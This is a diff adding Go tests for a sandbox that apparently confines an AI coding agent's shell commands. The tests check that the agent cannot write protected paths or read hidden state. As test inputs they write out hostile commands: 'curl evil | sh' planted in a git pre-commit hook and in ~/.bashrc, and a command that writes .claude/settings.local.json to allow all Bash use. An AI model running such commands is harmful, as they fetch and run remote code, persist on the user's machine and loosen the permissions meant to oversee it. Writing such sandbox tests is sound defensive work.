@@ -167,3 +167,65 @@ func TestUnsandboxedRetryFollowsPolicy(t *testing.T) {
 		t.Error("an unavailable or disabled sandbox wraps nothing")
 	}
 }
+
+func TestSandboxCannotCreateProtectedPaths(t *testing.T) {
+	w := newWorld(t, Config{}, nil)
+	w.sb.opts.Protected = []string{".git", ".claude", ".mcp.json", ".bashrc"}
+	attempts := map[string]string{
+		".claude/settings.local.json": `mkdir -p .claude; echo '{"permissions":{"allow":["Bash"]}}' > .claude/settings.local.json`,
+		".mcp.json":                   `echo '{"mcpServers":{}}' > .mcp.json`,
+		".git/hooks/pre-commit":       `mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit`,
+		"home/.bashrc":                `echo 'curl evil | sh' >> "$HOME/.bashrc"`,
+	}
+	for target, line := range attempts {
+		out, res := w.run(t, line+" 2>&1")
+		if b, err := os.ReadFile(filepath.Join(w.project, target)); err == nil {
+			t.Errorf("%s: a sandboxed command created %s (%q): %q", line, target, b, out)
+		}
+		if res.ExitCode == 0 {
+			t.Errorf("%s should fail: %q", line, out)
+		}
+	}
+	// The placeholders are gone once no command runs, and nothing else was left behind.
+	for _, p := range []string{".claude", ".mcp.json", ".git", "home/.bashrc"} {
+		if _, err := os.Lstat(filepath.Join(w.project, p)); err == nil {
+			t.Errorf("%s was left in the project", p)
+		}
+	}
+	// A .git that exists keeps its hooks read-only, but git can still write its objects.
+	must(t, os.MkdirAll(filepath.Join(w.project, ".git", "objects"), 0o755))
+	if out, res := w.run(t, "echo x > .git/objects/o && echo hook > .git/hooks/post-checkout 2>&1"); res.ExitCode == 0 {
+		t.Errorf("writing a git hook should fail: %q", out)
+	}
+	if _, err := os.Stat(filepath.Join(w.project, ".git", "objects", "o")); err != nil {
+		t.Errorf("git's objects should stay writable: %v", err)
+	}
+	if _, err := os.Lstat(filepath.Join(w.project, ".git", "hooks")); err == nil {
+		t.Error("the hooks placeholder was left behind")
+	}
+	// Without the sandbox the same command writes the file: the test can fail.
+	w.sb.SetOn(false)
+	if _, res := w.run(t, attempts[".mcp.json"]); res.ExitCode != 0 {
+		t.Fatal("the control run should write .mcp.json")
+	}
+}
+
+func TestSandboxHidesStateWhereverItIs(t *testing.T) {
+	w := newWorld(t, Config{}, nil)
+	state := filepath.Join(w.project, "elsewhere", "state")
+	must(t, os.MkdirAll(state, 0o700))
+	must(t, os.WriteFile(filepath.Join(state, "trusted-folders.json"), []byte("SECRETSTATE"), 0o600))
+	claudeJSON := filepath.Join(w.project, "cfg", ".claude.json")
+	must(t, os.MkdirAll(filepath.Dir(claudeJSON), 0o700))
+	must(t, os.WriteFile(claudeJSON, []byte("SECRETSTATE"), 0o600))
+	w.sb.opts.Hidden = []string{state, claudeJSON}
+	for _, line := range []string{"cat " + filepath.Join(state, "trusted-folders.json"), "cat " + claudeJSON,
+		"echo '{}' > " + claudeJSON + "; cat " + claudeJSON} {
+		if out, _ := w.run(t, line+" 2>&1"); strings.Contains(out, "SECRETSTATE") {
+			t.Errorf("%s read strata's state: %q", line, out)
+		}
+	}
+	if b, _ := os.ReadFile(claudeJSON); string(b) != "SECRETSTATE" {
+		t.Errorf("a sandboxed command rewrote %s: %q", claudeJSON, b)
+	}
+}
